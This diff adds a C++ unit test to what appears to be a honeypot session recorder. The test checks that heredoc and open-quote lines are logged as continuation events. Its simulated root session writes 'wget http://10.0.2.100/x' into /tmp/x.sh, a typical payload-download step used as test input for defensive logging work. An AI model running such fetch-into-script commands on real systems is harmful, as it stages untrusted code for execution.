@@ -597,6 +597,53 @@ TEST(SessionEngine, ClientGoneBeforeLogoutIsDroppedAndWrongPasswordsAreFailed) {
   EXPECT_EQ(t.stats().open, 0u);
 }
 
+// A here-document and an open quote: the lines the shell reads at its secondary prompt "> " belong
+// to the command being entered (it starts nothing until the command is complete), so they are
+// continuation events, not commands; a line at "> " once the command runs a program is input to
+// that program's own prompt, recorded as the line it is, as before.
+TEST(SessionEngine, LinesAtTheSecondaryPromptContinueTheCommand) {
+  Rig r;
+  auto& [dir, t, g] = r;
+  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 7, 7777));
+  g.fork(kServer, kConn);
+  g.open(kConn, "/dev/ptmx", 2, kMaster);
+  g.fork(kConn, kShell);
+  g.exec(kShell, "/bin/bash", {"-bash"});
+  g.read(kConn, kMaster, "root@lab:~# ");
+  g.type(kConn, kMaster, "cat > /tmp/x.sh <<EOF\r", "cat > /tmp/x.sh <<EOF\r\n");
+  g.read(kConn, kMaster, "> ");
+  g.type(kConn, kMaster, "wget http://10.0.2.100/x\r", "wget http://10.0.2.100/x\r\n");
+  g.read(kConn, kMaster, "> ");
+  g.type(kConn, kMaster, "EOF\r", "EOF\r\n");
+  g.fork(kShell, 300);
+  g.exec(300, "/bin/cat", {"cat"});
+  g.exit(300, 0);
+  g.read(kConn, kMaster, "root@lab:~# ");
+  g.type(kConn, kMaster, "echo 'a\r", "echo 'a\r\n");
+  g.read(kConn, kMaster, "> ");
+  g.type(kConn, kMaster, "b'\r", "b'\r\n");
+  g.read(kConn, kMaster, "a\r\nb\r\nroot@lab:~# ");
+  g.type(kConn, kMaster, "python3\r", "python3\r\n");
+  g.fork(kShell, 301);
+  g.exec(301, "/usr/bin/python3", {"python3"});
+  g.read(kConn, kMaster, "> ");
+  g.type(kConn, kMaster, "print(1)\r", "print(1)\r\n");
+  const auto ids = t.session_ids();
+  ASSERT_EQ(ids.size(), 1u);
+  const auto ev = jsonl(dir.path() / ids[0] / "events.jsonl");
+  std::vector<std::string> cmds, cont;
+  for (const auto& e : by_id(ev, "cowrie.command.input")) cmds.push_back(e["input"]);
+  for (const auto& e : by_id(ev, "hvtrace.command.continuation")) cont.push_back(e["input"]);
+  const std::vector<std::string> want_cmds = {"cat > /tmp/x.sh <<EOF", "echo 'a", "python3", "print(1)"};
+  const std::vector<std::string> want_cont = {"wget http://10.0.2.100/x", "EOF", "b'"};
+  EXPECT_EQ(cmds, want_cmds);
+  EXPECT_EQ(cont, want_cont);
+  const std::string tr = slurp(dir.path() / ids[0] / "transcript.txt");
+  EXPECT_NE(tr.find("$ cat > /tmp/x.sh <<EOF\n"), std::string::npos) << tr;
+  EXPECT_NE(tr.find("> wget http://10.0.2.100/x\n"), std::string::npos) << tr;
+  EXPECT_EQ(tr.find("$ wget"), std::string::npos) << "a here-document's line shown as a command:\n" << tr;
+}
+
 // The Enter key's write into the terminal whose return was never delivered (the monitor's table of
 // open calls was full; the tracer completes it, return value unknown, at the thread's next call):
 // the key captured at entry still enters the line. A builtin such as `exit` runs no program, so
